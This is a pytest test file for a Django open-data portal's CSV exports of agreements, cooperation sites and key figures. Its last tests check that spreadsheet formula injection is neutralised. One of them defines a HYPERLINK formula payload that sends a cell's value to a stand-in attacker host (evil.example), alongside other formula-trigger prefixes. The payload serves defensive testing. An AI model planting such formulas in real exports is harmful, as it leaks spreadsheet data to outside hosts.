"""CSV exports for open-data portals: agreements, cooperation sites, key figures."""

import csv
import io

import pytest

from tests.factories import AgreementFactory, CooperationSiteFactory, KeyFigureFactory
from workflow.states import Status

pytestmark = pytest.mark.django_db


def rows(response):
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = response.content
    assert not content.startswith(b"\xef\xbb\xbf")  # UTF-8 without BOM
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


@pytest.mark.parametrize("url", ["/api/v1/agreements.csv", "/api/v1/agreements/?format=csv"])
def test_agreements_export_has_both_languages_iso_dates_and_page_urls(api, world, url):
    response = api.get(url)
    assert response["Content-Disposition"] == 'attachment; filename="agreements.csv"'
    [row] = rows(response)
    assert row["title_fr"] == "Convention-cadre Bretagne"
    assert row["title_en"] == "Brittany framework agreement"
    assert (row["signed_on"], row["starts_on"], row["end_date"]) == ("2022-03-22", "2022-03-22", "2027-03-21")
    assert row["parties"] == "Inserm | Région Bretagne"
    assert row["party_countries"] == "FR"
    assert row["themes_fr"] == world["themes"].name_fr
    assert row["url_fr"] == "http://testserver/fr/accords/convention-bretagne/"
    assert row["url_en"] == "http://testserver/en/agreements/brittany-agreement/"


def test_agreements_export_is_the_whole_filtered_list_of_live_agreements(api, db):
    chairs = {AgreementFactory(kind="chair").pk for _ in range(25)}
    AgreementFactory(kind="framework", title_fr="Convention-cadre")
    AgreementFactory(kind="chair", status=Status.DRAFT, title_fr="Brouillon secret")
    response = api.get("/api/v1/agreements.csv?partner_kind=&status=")
    exported = rows(response)
    assert len(exported) == 26  # every live agreement, not a page of 20
    assert "Brouillon secret" not in response.content.decode()
    assert {int(row["id"]) for row in exported if row["kind"] == "chair"} == chairs


def test_sites_export_gives_places_and_coordinates(api, world):
    [row] = rows(api.get("/api/v1/sites.csv"))
    assert row["name_fr"] == "Laboratoire international"
    assert row["name_en"] == "International laboratory"
    assert row["places_fr"] == "Heidelberg"
    assert (row["countries"], row["continents"]) == ("DE", "EU")
    assert (row["latitude"], row["longitude"]) == ("49.4", "8.7")
    assert row["funding_instrument_en"] == "International springboards"


def test_sites_export_follows_the_kind_filter(api, db):
    CooperationSiteFactory(kind="network", name_fr="Réseau")
    CooperationSiteFactory(kind="office", name_fr="Bureau")
    assert [row["name_fr"] for row in rows(api.get("/api/v1/sites.csv?kind=office"))] == ["Bureau"]


def test_key_figures_export(api, db):
    KeyFigureFactory(year=2012, value=6300, share_percent="47.40", source_fr="Rapport", source_en="Report")
    [row] = rows(api.get("/api/v1/key-figures/?format=csv"))
    assert row["year"] == "2012"
    assert (row["value"], row["share_percent"]) == ("6300.00", "47.40")
    assert (row["source_fr"], row["source_en"]) == ("Rapport", "Report")


def test_one_object_exports_as_one_row(api, world):
    [row] = rows(api.get(f"/api/v1/key-figures/{world['key-figures'].pk}/?format=csv"))
    assert (row["year"], row["indicator_en"]) == ("2020", "Declared cooperations")
    [row] = rows(api.get("/api/v1/agreements/brittany-agreement/?format=csv"))
    assert row["title_fr"] == "Convention-cadre Bretagne"


def test_empty_export_still_has_its_header(api, db):
    response = api.get("/api/v1/key-figures.csv")
    assert response.content.decode().splitlines() == [
        "id,year,indicator,indicator_fr,indicator_en,unit,value,share_percent,source_fr,source_en"
    ]


def test_export_with_a_bad_filter_answers_a_json_400(api, db):
    response = api.get("/api/v1/agreements.csv?status=signed")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "status" in response.json()
    assert "Content-Disposition" not in response


def test_other_endpoints_have_no_csv(api, world):
    assert api.get("/api/v1/press-releases.csv").status_code == 404
    assert api.get("/api/v1/themes/?format=csv").status_code == 404


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Details")'


@pytest.mark.parametrize("name", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"])
def test_cells_that_a_spreadsheet_would_run_are_neutralised(api, db, name):
    site = CooperationSiteFactory(name_fr=name, name_en="Safe name")

    [row] = rows(api.get("/api/v1/sites.csv"))

    assert row["name_fr"] == "'" + name
    assert row["name_en"] == "Safe name"
    json = api.get(f"/api/v1/sites/{site.slug_fr}/")
    assert json.status_code == 200
    assert json.json()["name"]["fr"] == name


def test_negative_numbers_stay_numbers(api, world):
    world["places"].latitude, world["places"].longitude = -33.87, -151.21
    world["places"].save()

    [row] = rows(api.get("/api/v1/sites.csv"))

    assert (row["latitude"], row["longitude"]) == ("-33.87", "-151.21")
